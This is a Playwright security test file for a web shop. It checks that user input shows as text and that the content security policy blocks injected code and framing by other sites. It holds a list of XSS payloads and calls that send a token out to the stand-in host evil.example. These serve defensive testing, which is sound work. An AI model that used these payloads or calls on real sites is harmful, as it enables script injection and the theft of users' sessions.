import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import Database from 'better-sqlite3'
import type { BrowserContext, Page } from '@playwright/test'
import { expect, type TestUser, test } from './fixtures.ts'

/** Known ways to inject a script. `ran` is a function in every page of these tests, which must not be called. */
const payloads = [
  '<script>ran(1)</script>',
  '<img src=x onerror=ran(2)>',
  '<svg onload=ran(3)>',
  '<svg><script>ran(4)</script></svg>',
  '<iframe srcdoc="<script>parent.ran(5)</script>"></iframe>',
  '<a href="javascript:ran(6)" id="bait">bait</a>',
  '<a href="jav&#x09;ascript:ran(7)">bait</a>',
  '<a href="data:text/html,<script>opener.ran(8)</script>">bait</a>',
  '<p onmouseover=ran(9) style="position:fixed;inset:0">over</p>',
  '<details open ontoggle=ran(10)>x</details>',
  '<input autofocus onfocus=ran(11)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran(12)&gt;">',
  '<form action="javascript:ran(13)"><button>send</button></form>',
  '<object data="javascript:ran(14)"></object>',
  '<meta http-equiv="refresh" content="0;url=javascript:ran(15)">',
  '</script><script>ran(16)</script>',
  '"><script>ran(17)</script>',
  "'-ran(18)-'",
  '{{constructor.constructor("ran(19)")()}}',
  '${ran(20)}',
  '<!--<img src="--><img src=x onerror=ran(21)//">',
  '<style>@import "javascript:ran(22)";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
]
const allPayloads = payloads.join('\n')

/** Records injected code that runs, and aborts and records requests to another site. */
async function recordAttacks(context: BrowserContext) {
  const ran: unknown[] = []
  const requests: string[] = []
  await context.exposeFunction('ran', (payload: unknown) => void ran.push(payload))
  await context.route(/evil\.example/, (route) => (requests.push(route.request().url()), route.abort()))
  return { ran, requests }
}

test(
  'user input is shown as text wherever it appears',
  { tag: '@thorough' },
  async ({ logIn, newCustomer, app, newVisitor }) => {
    const staff = await logIn('staff@example.com')
    const ada = await newCustomer()
    const visitor = await newVisitor()
    const attacks = await Promise.all([staff.context, ada.context, visitor.context()].map(recordAttacks))
    const { item, order } = await insertPayloads(staff, ada, app.databaseFile)

    const pages: [Page, string][] = [
      [visitor, `/items/${item}`],
      [visitor, `/items?q=${encodeURIComponent(payloads[1]!)}&category=${encodeURIComponent(payloads[0]!)}`],
      [visitor, `/auth?from=${encodeURIComponent('javascript:ran(30)')}`],
      [ada.page, `/orders/details/${order}`],
      [ada.page, '/support'],
      [ada.page, '/notifications'],
      [ada.page, '/profile'],
      [staff.page, '/admin/payments'],
      [staff.page, '/admin/deliveries'],
      [staff.page, `/admin/orders/${order}`],
      [staff.page, `/admin/support/${ada.id}`],
      [staff.page, '/admin/reviews'],
      [staff.page, `/admin/customers/${ada.id}`],
    ]
    for (const [page, path] of pages) {
      await page.goto(path)
      await page.waitForLoadState('networkidle')
      await page.mouse.move(300, 300)
      // No payload has become an element with a handler or a script URL.
      const dangerous = await page.evaluate(() =>
        [...document.querySelectorAll('main *')]
          .filter((element) =>
            [...element.attributes].some(
              ({ name, value }) => name.startsWith('on') || /^\s*(javascript|data:text)/i.test(value),
            ),
          )
          .map((element) => element.outerHTML),
      )
      expect(dangerous, path).toEqual([])
      // Structured data is valid JSON, so no payload ends its element.
      for (const text of await page.locator('[type="application/ld+json"]').allTextContents()) JSON.parse(text)
      const code = 'main script:not([type="application/ld+json"])'
      expect(await page.locator(`${code}, main iframe, main object, main base, main meta`).count(), path).toBe(0)
    }
    for (const { ran, requests } of attacks) expect([ran, requests]).toEqual([[], []])
  },
)

/** Sends the payloads through the API, and writes them into rows where the API would reject or sanitise them. */
async function insertPayloads(staff: TestUser, ada: TestUser, databaseFile: string) {
  const items = (await staff.call('GET', '/items?limit=1')).data as unknown as { _id: string }[]
  const item = items[0]!._id
  const db = new Database(databaseFile)
  db.pragma('busy_timeout = 5000')
  db.prepare('update items set description = ?, short_description = ?, name = ? where id = ?').run(
    allPayloads,
    payloads[1],
    payloads[0],
    item,
  )
  db.prepare('update users set first_name = ?, last_name = ? where id = ?').run(payloads[1], payloads[0], ada.id)
  db.close()
  const succeed = async (response: ReturnType<TestUser['call']>) => {
    const { success, message, data } = await response
    expect(success, message).toBe(true)
    return data
  }
  await succeed(ada.call('POST', '/reviews', { item, stars: 5, description: allPayloads.slice(0, 1900) }))
  await succeed(ada.call('POST', '/support-chat/message', { message: allPayloads.slice(0, 3900), item }))
  await succeed(staff.call('POST', '/support-chat/message', { message: allPayloads.slice(0, 3900), userId: ada.id }))
  await succeed(ada.call('POST', '/cart', { item, count: 1 }))
  const order = (await succeed(ada.call('POST', '/checkout', { paymentMethod: 'bank' })))._id as string
  await succeed(ada.call('PATCH', `/checkout/${order}/mark-paid`, { reference: payloads[1] }))
  await succeed(staff.call('PATCH', `/admin/orders/${order}/reject`, { reason: allPayloads.slice(0, 490) }))
  return { item, order }
}

test.describe('with a policy violation', () => {
  test.use({ expectedErrors: /Content Security Policy|ERR_FAILED|ERR_BLOCKED/ })

  test('injected scripts are blocked by the content security policy', async ({ newVisitor }) => {
    const page = await newVisitor()
    const { ran, requests } = await recordAttacks(page.context())
    await page.goto('/items')
    const violations: string[] = []
    await page.exposeFunction('reportViolation', (violation: string) => void violations.push(violation))
    await page.evaluate(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
        const [source = ''] = /^\w+:\/\/[^/]+|^[\w-]+/.exec(blockedURI) ?? []
        Reflect.get(window, 'reportViolation')(`${effectiveDirective} ${source}`)
      })
      const add = (name: string, attributes: Record<string, string>, text = '') => {
        const element = document.createElement(name)
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
        element.textContent = text
        document.body.append(element)
        return element
      }
      add('script', {}, 'ran(1)')
      add('script', { src: 'https://evil.example/x.js' })
      add('script', { src: 'data:text/javascript,ran(2)' })
      add('img', { src: '/none', onerror: 'ran(3)' })
      add('iframe', { srcdoc: '<script>parent.ran(4)</script>' })
      add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })
      add('a', { href: 'javascript:ran(5)' }).click()
      add('base', { href: 'https://evil.example/' })
      void fetch('https://evil.example/take', { method: 'POST', body: 'token' }).catch(() => {})
      navigator.sendBeacon('https://evil.example/take', 'token')
      new Image().src = 'https://evil.example/take?token'
    })
    // The browser reports each violation with its directive.
    await expect
      .poll(() => violations.toSorted())
      .toEqual([
        'base-uri https://evil.example',
        'connect-src https://evil.example',
        'connect-src https://evil.example',
        'img-src https://evil.example',
        'script-src-attr inline',
        'script-src-elem data',
        'script-src-elem https://evil.example',
        'script-src-elem inline',
        'script-src-elem inline',
        'style-src-elem https://evil.example',
      ])
    expect([ran, requests]).toEqual([[], []])
  })

  test("can't frame the app from another site", async ({ newVisitor, app }) => {
    const page = await newVisitor()
    // Also served locally, since the browser itself blocks public sites from framing local ones.
    const frames = ['/', '/faq'].map(
      (path) => `<iframe src="${app.url}${path}" onload="document.body.dataset.loaded += '.'"></iframe>`,
    )
    const otherSite = createServer((_, response) => {
      response.setHeader('content-type', 'text/html').end(`<body data-loaded="">${frames.join('')}`)
    })
    otherSite.listen(0, '127.0.0.1')
    await once(otherSite, 'listening')
    // Without its headers, the FAQ page can be framed, which shows that the check works.
    await page.route('**/faq', async (route) => {
      const response = await route.fetch()
      await route.fulfill({ response, headers: { 'content-type': 'text/html' } })
    })
    const framed = page.waitForResponse(`${app.url}/`)
    await page.goto(`http://127.0.0.1:${(otherSite.address() as AddressInfo).port}/`)
    await framed
    await expect(page.locator('body'), 'both frames have loaded').toHaveAttribute('data-loaded', '..')
    const allowedMain = page.locator('iframe').nth(1).contentFrame().getByRole('main')
    await expect(allowedMain.first(), 'the frame without the headers').toBeVisible()
    await expect(page.locator('iframe').nth(0).contentFrame().getByRole('main')).toHaveCount(0)
    otherSite.close()
  })
})
